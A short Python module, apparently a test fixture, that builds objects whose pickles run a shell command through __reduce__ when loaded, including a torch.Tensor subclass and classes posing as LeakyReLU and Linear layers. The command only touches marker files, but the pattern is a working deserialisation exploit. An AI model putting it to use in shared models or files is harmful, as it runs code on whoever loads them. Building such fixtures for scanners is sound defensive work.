"""Returns objects whose pickles would run a command in whoever loads them."""

import os

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/breach-pickle /dev/shm/breach-pickle",)


class TensorPayload(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/breach-pickle",)


class LeakyReLU:
    def __init__(self, alpha):
        pass

    def forward(self, x):
        return Payload()


class Linear(LeakyReLU):
    def __init__(self, w, b):
        pass

    def forward(self, x):
        return torch.ones(7, 3).as_subclass(TensorPayload)
